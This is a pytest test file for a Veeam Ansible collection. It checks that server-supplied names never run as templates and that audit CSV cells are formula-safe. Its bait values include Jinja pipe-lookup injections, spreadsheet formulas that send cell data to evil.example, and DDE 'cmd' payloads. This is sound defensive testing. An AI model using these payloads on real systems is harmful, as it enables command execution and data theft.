"""Values that come from a Veeam server are data, never templates.

A backup server, user, role, account or restore scope whose name or description holds
``{{ lookup('ansible.builtin.pipe', 'touch ...') }}`` must never run that command on the controller, whichever
ansible-core runs the play: ansible-core 2.19 trusts no data by default, 2.17 and 2.18 template any string that
is not marked unsafe. The inventory plugin marks what it reads; module results are unsafe once registered, and
the facts the audit playbook and the offboard role build from them with ``lookup('template') | from_json`` stay
unsafe (ansible-core before 2.19 marks a template's result unsafe when it used unsafe data) - these tests hold
all of that to account. They run ``ansible-playbook`` from the venv of the Python running pytest, so they check
whatever ansible-core that venv holds (run them with an older ansible-core's venv to check that one).
"""

import csv
import json
import os

import ansible.release
import pytest
import requests

from tests.conftest import running_simulator
from tests.functional.module_harness import REPO_ROOT, run_module, run_playbook

ANSIBLE_CORE = ansible.release.__version__


class Bait(object):
    """Hostile values, each of which creates its own marker file if anything ever templates it."""

    def __init__(self, folder):
        self.folder = folder

    def __call__(self, field, before="", after=""):
        marker = os.path.join(self.folder, field)
        return "%s{{ lookup('ansible.builtin.pipe', 'touch %s') }}%s" % (before, marker, after)

    def sprung(self):
        """The fields whose template ran."""
        return sorted(os.listdir(self.folder))


@pytest.fixture
def bait(tmp_path):
    folder = tmp_path / "markers"
    folder.mkdir()
    return Bait(str(folder))


@pytest.fixture(scope="module")
def hostile_sim(tmp_path_factory):
    """A simulator of its own: the tests give its servers hostile names."""
    yield from running_simulator(tmp_path_factory, vbr_servers=1, task_duration=0.2)


def connection_env(sim):
    values = {}
    for product in ("VBR", "EM"):
        values.update({"VEEAM_%s_USERNAME" % product: sim.config.username,
                       "VEEAM_%s_PASSWORD" % product: sim.config.password,
                       "VEEAM_%s_CA_PATH" % product: sim.ca_path})
    return values


def write(path, text):
    path.write_text(text)
    return str(path)


# ------------------------------------------------------------------------------ the inventory plugin
USE_EVERY_VARIABLE = """
- name: Use every variable the inventory plugin sets
  hosts: veeam_vbr
  gather_facts: false
  connection: local
  tasks:
    - name: Every host variable, the host name and its groups
      ansible.builtin.debug:
        msg: "{{ [inventory_hostname, veeam_vbr_name, veeam_vbr_server, veeam_vbr_description, veeam_vbr_version,
                  veeam_vbr_uid, veeam_vbr_port, veeam_em_server, composed_description, group_names] }}"

    - name: A fact copied from them
      ansible.builtin.set_fact:
        copied: "{{ veeam_vbr_description ~ ' / ' ~ inventory_hostname }}"
        copied_list: "{{ [veeam_vbr_description, inventory_hostname] }}"

    - name: The copied fact
      ansible.builtin.debug:
        msg: "{{ copied }} {{ copied_list }}"

    - name: Through hostvars
      ansible.builtin.debug:
        msg: "{{ hostvars[inventory_hostname]['veeam_vbr_description'] }} {{ groups['veeam_vbr'] }}"
"""


@pytest.fixture
def hostile_backup_servers(hostile_sim, bait):
    app = hostile_sim.em_server.app
    original = [dict(server) for server in app.backup_servers]
    hostile = [{"name": bait("name", "vbr-"), "rest_url": hostile_sim.vbr_url, "version": bait("version", "13.1."),
                "description": bait("description", "Simulated VBR server, ")}]
    app.set_backup_servers(hostile)
    yield hostile[0]
    app.backup_servers = original


def test_inventory_values_are_never_templated(hostile_sim, hostile_backup_servers, bait, tmp_path):
    config = write(tmp_path / "veeam.em_backup_servers.yml", """
plugin: backupops.veeam.em_backup_servers
server: %s
compose:
  composed_description: veeam_vbr_description
keyed_groups:
  - key: veeam_vbr_description
    prefix: described
""" % hostile_sim.em_url)
    playbook = write(tmp_path / "use.yml", USE_EVERY_VARIABLE)
    run = run_playbook(playbook, inventory=config, env=connection_env(hostile_sim))
    assert bait.sprung() == [], "ansible-core %s templated server data: %s" % (ANSIBLE_CORE, bait.sprung())
    assert run.returncode == 0, run.stdout[-3000:] + run.stderr[-3000:]
    host = hostile_backup_servers["name"]
    shown = run.task_results("Every host variable, the host name and its groups", host=host)["msg"]
    assert shown[0] == shown[1] == host
    assert shown[3] == shown[8] == hostile_backup_servers["description"]
    assert shown[4] == hostile_backup_servers["version"]
    copied = run.task_results("The copied fact", host=host)["msg"]
    assert hostile_backup_servers["description"] + " / " + host in copied


# ------------------------------------------------------------------------------ the audit report
def formula_safe(value):
    """What a cell must hold: the value, with a leading quote when a spreadsheet would read it as a formula."""
    return "'" + value if value[:1] in ("=", "+", "-", "@", "\t", "\r") else value


def test_audit_never_templates_server_data_and_writes_a_safe_csv(hostile_sim, bait, tmp_path):
    env = connection_env(hostile_sim)
    vbr_env = dict(VEEAM_VBR_SERVER=hostile_sim.vbr_url, **env)
    em_env = dict(VEEAM_EM_SERVER=hostile_sim.em_url, **env)
    for url in (hostile_sim.vbr_url, hostile_sim.em_url):
        requests.post(url + "/_sim/reset", verify=hostile_sim.ca_path, timeout=10).raise_for_status()
    # Every column gets quotes, commas, newlines, a formula and a template: the server name (from Enterprise
    # Manager, through the inventory plugin), the account, its roles and its restore scope.
    server_name = bait("server", '=HYPERLINK("https://evil.example/?d="&A1,"open"), "vbr", ')
    vbr_role = bait("vbr_role", '@SUM(1+1)*cmd|" /C calc"!A0, "role"\n')
    vbr_account = bait("vbr_account", '-2+3+cmd|" /C calc"!A0,\n"TECH\\\\jane", ')
    em_group = bait("em_account", '=HYPERLINK("https://evil.example/","click"), "db ""prod"", eu" ')
    em_scope = bait("em_scope", '+1, "scope"\n\tnext line ')
    role = run_module("vbr_role", {"name": vbr_role, "manage_restores": True, "api_version": "1.3-rev2", "retries": 0}, env=vbr_env)
    assert not role.failed, role["msg"]
    requests.post(hostile_sim.vbr_url + "/_sim/users", verify=hostile_sim.ca_path, timeout=10, json={
        "users": [{"name": vbr_account, "type": "InternalUser", "roles": [vbr_role]}]}).raise_for_status()
    account = run_module("em_account", {
        "name": em_group, "type": "ExternalGroup", "roles": ["VM Restore Operator"], "retries": 0,
        "restore_scope": [{"ref": "urn:VMware:Vm:7f6b6270-1f3b-4dc6-872f-2d1dfc519c00.vm-2041", "name": em_scope}]},
        env=em_env)
    assert not account.failed, account["msg"]
    app = hostile_sim.em_server.app
    original = [dict(server) for server in app.backup_servers]
    app.set_backup_servers([{"name": server_name, "rest_url": hostile_sim.vbr_url, "version": "13.1.0.411",
                             "description": "hostile"}])
    try:
        config = write(tmp_path / "veeam.em_backup_servers.yml", """
plugin: backupops.veeam.em_backup_servers
server: %s
compose:
  veeam_vbr_server: "'%s'"
""" % (hostile_sim.em_url, hostile_sim.vbr_url))
        run = run_playbook(os.path.join(REPO_ROOT, "playbooks", "audit.yml"), inventory=config, env=env,
                           extra_vars={"veeam_audit_dir": str(tmp_path / "audit")})
    finally:
        app.backup_servers = original
    assert bait.sprung() == [], "ansible-core %s templated server data: %s" % (ANSIBLE_CORE, bait.sprung())
    assert run.returncode == 0, run.stdout[-3000:] + run.stderr[-3000:]

    rows = json.loads((tmp_path / "audit" / "veeam-access.json").read_text())
    with open(str(tmp_path / "audit" / "veeam-access.csv"), newline="") as handle:
        table = list(csv.reader(handle))
    assert table[0] == ["server", "account", "type", "roles", "service_account", "restore_scope"]
    assert len(table) == len(rows) + 1 and all(len(line) == 6 for line in table)
    by_account = dict((line[1], line) for line in table[1:])
    assert by_account[formula_safe(vbr_account)] == [
        formula_safe(server_name), formula_safe(vbr_account), "InternalUser", formula_safe(vbr_role), "False", ""]
    assert by_account[formula_safe(em_group)] == [
        "Enterprise Manager", formula_safe(em_group), "ExternalGroup", "VM Restore Operator", "", formula_safe(em_scope)]
    # The JSON report keeps the names exactly as the servers have them.
    assert any(row["account"] == vbr_account and row["roles"] == [vbr_role] and row["server"] == server_name
               for row in rows)
    assert any(row["account"] == em_group and row["restore_scope"] == [em_scope] for row in rows)


# ------------------------------------------------------------------------------ the offboarding report
def test_offboard_report_never_templates_server_data(hostile_sim, bait, tmp_path):
    """The report quotes host names from Enterprise Manager and an error message from the server."""
    env = connection_env(hostile_sim)
    for url in (hostile_sim.vbr_url, hostile_sim.em_url):
        requests.post(url + "/_sim/reset", verify=hostile_sim.ca_path, timeout=10).raise_for_status()
    message = bait("em_error", "Database unavailable: ")
    requests.post(hostile_sim.em_url + "/_sim/faults", verify=hostile_sim.ca_path, timeout=10, json={
        "method": "GET", "path": "/api/security/accounts", "status": 500, "times": 0,
        "body": {"Message": message, "StatusCode": 500}}).raise_for_status()
    app = hostile_sim.em_server.app
    original = [dict(server) for server in app.backup_servers]
    server_name = bait("server", "vbr-")
    app.set_backup_servers([{"name": server_name, "rest_url": hostile_sim.vbr_url, "version": "13.1.0.411",
                             "description": bait("description")}])
    try:
        config = write(tmp_path / "veeam.em_backup_servers.yml", """
plugin: backupops.veeam.em_backup_servers
server: %s
compose:
  veeam_vbr_server: "'%s'"
""" % (hostile_sim.em_url, hostile_sim.vbr_url))
        run = run_playbook(os.path.join(REPO_ROOT, "playbooks", "offboard.yml"), inventory=config, env=env,
                           extra_vars={"veeam_offboard_users": ["TECH\\jane.doe"]})
    finally:
        app.backup_servers = original
        requests.delete(hostile_sim.em_url + "/_sim/faults", verify=hostile_sim.ca_path, timeout=10)
    assert bait.sprung() == [], "ansible-core %s templated server data: %s" % (ANSIBLE_CORE, bait.sprung())
    assert run.returncode != 0  # Enterprise Manager failed: the play fails, and the report still comes
    report = run.task_results("Offboarding report", host=server_name)["msg"][0]
    assert report["vbr_no_access_on"] == [server_name]
    assert report["enterprise_manager"].startswith("failed: ") and message in report["enterprise_manager"]
